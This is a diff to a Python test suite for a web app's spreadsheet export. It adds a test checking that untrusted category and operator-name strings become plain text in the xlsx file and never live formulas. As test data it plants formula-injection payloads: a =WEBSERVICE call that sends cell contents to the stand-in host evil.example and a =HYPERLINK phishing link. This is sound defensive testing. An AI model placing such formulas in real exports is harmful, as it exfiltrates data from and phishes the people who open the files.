@@ -121,3 +121,32 @@ def test_the_handbook_lists_what_worked(as_lead, session, month):
     )
     page = as_lead.get("/review/handbook").get_data(as_text=True)
     assert "拦截成功，包裹退回" in page and "操作失误" in page and "¥17.00" in page
+
+
+def test_untrusted_strings_in_the_workbook_are_text_never_formulas(as_lead, session, month):
+    """A Douyin category or a station's operator name starting with "=" must not become a live
+    formula (=WEBSERVICE exfiltrates, =HYPERLINK phishes) in the export."""
+    import zipfile
+
+    from sqlalchemy import update
+
+    from server.models import Operator, SkuOrder
+
+    session.execute(update(SkuOrder).values(category='=WEBSERVICE("http://evil.example/?"&A1)'))
+    session.execute(update(Operator).values(name='=HYPERLINK("http://evil.example","点我")'))
+    session.commit()
+    response = as_lead.get(f"/review/export.xlsx?month=2026-11&warehouse={month.id}")
+    assert response.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
+    book = load_workbook(io.BytesIO(response.data))
+    found = [
+        cell
+        for sheet in book
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and cell.value.startswith("=")
+    ]
+    assert {c.value[:11] for c in found} >= {"=WEBSERVICE", "=HYPERLINK("}
+    assert all(c.data_type == "s" for c in found)
